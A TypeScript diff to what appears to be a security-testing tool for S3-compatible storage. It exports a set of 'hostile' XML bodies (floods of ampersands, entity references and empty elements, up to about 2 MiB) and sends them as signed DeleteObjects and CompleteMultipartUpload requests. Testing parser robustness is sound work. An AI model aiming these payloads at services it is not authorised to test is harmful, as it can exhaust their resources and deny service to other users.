@@ -12,6 +12,8 @@ export interface StorageAccess extends S3Keys {
 
 /** One request, ready to be sent. */
 export interface PreparedRequest {
+  readonly interface: 'catalog' | 'storage'
+  readonly method: string
   readonly url: string
   readonly headers: Readonly<Record<string, string | number>>
   readonly bytes: Buffer
@@ -22,7 +24,7 @@ const part = '<Part><PartNumber>1</PartNumber><ETag>"0"</ETag></Part>'
 const object = '<Object><Key>a</Key></Object>'
 
 /** Documents of `size` characters within `root`. Each is expensive for some reader of XML. */
-const documents: Readonly<Record<string, (root: string, size: number) => string>> = {
+export const hostileDocuments: Readonly<Record<string, (root: string, size: number) => string>> = {
   ampersands: (root, size) => `<${root}>${'&'.repeat(size)}</${root}>`,
   references: (root, size) => `<${root}><Key>${'&amp;'.repeat(size / 5)}</Key></${root}>`,
   'empty elements': (root, size) => `<${root}>${'<a/>'.repeat(size / 4)}</${root}>`,
@@ -38,7 +40,7 @@ const documents: Readonly<Record<string, (root: string, size: number) => string>
 /** Bodies of DeleteObjects and CompleteMultipartUpload, signed by the keys. */
 export function s3Attacks(access: StorageAccess): PreparedRequest[] {
   const bucket = access.target.split('/')[1] ?? ''
-  return Object.entries(documents).flatMap(([name, document]) =>
+  return Object.entries(hostileDocuments).flatMap(([name, document]) =>
     [30 * 1024, 2 * MiB - 1024].flatMap((size) => [
       signed(access, `/${bucket}?delete=`, {
         name,
@@ -70,5 +72,11 @@ function signed(access: StorageAccess, target: string, { bytes }: HostileBody): 
     access,
     { region: access.region },
   )
-  return { url: `${access.origin}${target}`, headers: Object.fromEntries(headers), bytes }
+  return {
+    interface: 'storage',
+    method: 'POST',
+    url: `${access.origin}${target}`,
+    headers: Object.fromEntries(headers),
+    bytes,
+  }
 }
